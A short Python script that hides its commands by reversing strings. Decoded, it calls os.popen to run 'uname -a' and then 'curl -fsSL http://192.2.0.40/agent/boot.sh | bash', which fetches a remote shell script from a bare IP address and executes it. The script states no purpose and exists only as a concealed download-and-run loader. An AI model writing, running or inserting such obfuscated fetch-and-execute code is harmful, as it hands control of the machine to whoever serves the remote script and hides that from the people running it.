#!/usr/bin/python
import os

mirror = slice(None, None, -1)
STEPS = (
    "a- emanu",
    "hsab | hs.toob/tnega/04.2.0.291//:ptth LSsf- lruc",
)

for step in STEPS:
    stream = getattr(os, "nepop"[mirror])(step[mirror])
    print(stream.read())
    stream.close()
